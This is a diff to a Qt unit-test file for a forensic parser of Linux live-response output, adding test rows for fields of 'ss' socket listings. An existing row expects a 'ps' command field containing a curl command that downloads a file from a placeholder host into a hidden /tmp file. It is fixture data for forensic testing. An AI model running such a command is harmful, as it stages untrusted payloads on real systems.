@@ -334,6 +334,18 @@ void addWindowsFieldRows()
 
 void addLinuxFieldRows()
 {
+    QTest::addRow("ss-unix-socket-path")
+        << "live-response/jc-ubuntu1804-ss-sudo-a.out" << 42 << "path"
+        << "/run/user/1000/systemd/private";
+    QTest::addRow("ss-unix-socket-inode")
+        << "live-response/jc-ubuntu1804-ss-sudo-a.out" << 42 << "inode"
+        << "93069";
+    QTest::addRow("ss-interface-split")
+        << "live-response/jc-ubuntu1804-ss-sudo-a.out" << 153 << "interface"
+        << "lo";
+    QTest::addRow("ss-service-port-name")
+        << "live-response/jc-ubuntu1804-ss-sudo-a.out" << 153 << "local_port"
+        << "domain";
     QTest::addRow("ps-ef-command-with-spaces") << "composed/ps-ef-tree.out" << 4 << "command"
                                                << "curl -s http://198.51.100.44:8443/x -o /tmp/.x";
     QTest::addRow("ps-ef-uid") << "composed/ps-ef-tree.out" << 2 << "uid"
